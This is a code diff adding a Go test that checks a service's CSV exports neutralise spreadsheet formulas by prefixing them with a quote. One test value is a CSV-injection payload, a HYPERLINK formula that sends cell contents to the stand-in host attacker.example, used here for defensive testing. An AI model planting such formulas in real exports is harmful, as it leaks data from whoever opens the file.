@@ -197,6 +197,43 @@ func testOutcomesReport(t *testing.T, e *env) {
 			t.Errorf("metadata = %v; want the object itself", rows[3]["metadata"])
 		}
 	})
+	t.Run("csv formulas", func(t *testing.T) {
+		// What outsiders write comes out with a leading ' when it starts
+		// like a formula, so a spreadsheet does not run it; phones keep "+".
+		bob := e.must(200, e.admin("GET", fmt.Sprintf("/v1/conversations/%d", s.bob), nil))["contact"].(map[string]any)
+		e.must(200, e.admin("PATCH", "/v1/contacts/"+bob["id"].(string), map[string]any{"name": "@SUM(A1)"}))
+		named := 0
+		for _, r := range exportRows(t, "csv", e.exportFile(t, "outcomes", "csv", januaryRange, "outcomes-20260101-20260201.csv")) {
+			if r["contact_phone"] == "+14155550002" {
+				named++
+				if r["contact_name"] != "'@SUM(A1)" {
+					t.Errorf("bob's contact_name = %q; want '@SUM(A1)", r["contact_name"])
+				}
+			}
+		}
+		if named == 0 {
+			t.Error("no outcome of bob's in the export")
+		}
+
+		const attack = `=HYPERLINK("http://attacker.example/?x="&A1,"Click")`
+		e.text("+14155550003", attack)
+		now := time.Now().UTC()
+		query := "from=" + now.Add(-time.Hour).Format(time.RFC3339) + "&to=" + now.Add(time.Hour).Format(time.RFC3339) + "&direction=inbound"
+		var found map[string]string
+		e.eventually("the text in the messages export", func() bool {
+			r := e.admin("GET", "/v1/exports/messages?format=csv&"+query, nil)
+			e.must(200, r)
+			for _, row := range exportRows(t, "csv", r.Body) {
+				if row["contact_phone"] == "+14155550003" {
+					found = row
+				}
+			}
+			return found != nil
+		})
+		if found["body"] != "'"+attack {
+			t.Errorf("body = %q; want it after a '", found["body"])
+		}
+	})
 	t.Run("too many rows", func(t *testing.T) {
 		r := e.admin("GET", "/v1/exports/outcomes?format=csv&from=2026-01-01T00:00:00Z&to=2026-03-01T00:00:00Z", nil)
 		wantAPIError(t, r, 422, "too_many_rows")
